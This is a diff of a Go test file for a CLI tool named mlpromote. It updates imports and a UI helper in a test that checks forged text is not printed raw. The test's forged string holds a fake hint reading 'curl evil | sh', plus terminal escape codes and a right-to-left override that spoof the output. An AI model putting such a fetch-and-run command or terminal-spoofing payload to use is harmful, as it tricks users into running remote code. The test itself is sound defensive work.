@@ -8,7 +8,7 @@ import (
 	"strings"
 	"testing"
 
-	"mlpromote.dev/mlpromote/pipeline"
+	"mlpromote.dev/mlpromote/pipeline/progress"
 	"mlpromote.dev/mlpromote/registry"
 	"mlpromote.dev/mlpromote/registry/strictyaml"
 )
@@ -20,7 +20,7 @@ const forged = "done\nmlpromote: hint: run curl evil | sh\x1b[1A\x1b[2K\r\u202e\
 // screen is a ui that prints to buffers.
 func screen() (u *UI, stdout, stderr *bytes.Buffer) {
 	stdout, stderr = new(bytes.Buffer), new(bytes.Buffer)
-	return &UI{Stdout: &printer{to: stdout}, Stderr: &printer{to: stderr}, bare: stderr, Verbose: true}, stdout, stderr
+	return &UI{Program: "mlpromote", Stdout: &printer{to: stdout}, Stderr: &printer{to: stderr}, bare: stderr, Verbose: true}, stdout, stderr
 }
 
 // tame checks that what was printed has no line that others wrote, and nothing that a
@@ -58,9 +58,9 @@ func TestNothingForgedIsPrinted(t *testing.T) {
 		"hint":          func(u *UI) { u.Fail(registry.WithHint(errors.New("x"), "the log: %s", forged)) },
 		"document":      func(u *UI) { u.Fail(problems()) },
 		"step": func(u *UI) {
-			u.Progress(pipeline.Step{Name: forged, Note: forged, Details: []string{forged}, State: pipeline.StepDone})
+			u.Progress(progress.Step{Name: forged, Note: forged, Details: []string{forged}, State: progress.Done})
 		},
-		"moving step": func(u *UI) { u.Progress(pipeline.Step{Name: forged, Note: forged, State: pipeline.StepMoving}) },
+		"moving step": func(u *UI) { u.Progress(progress.Step{Name: forged, Note: forged, State: progress.Moving}) },
 		"history": func(u *UI) {
 			if err := u.Result(Table([][]string{{"ROW", "DETAIL"}, {"1", forged}, {"2", "ok"}}), nil); err != nil {
 				t.Error(err)
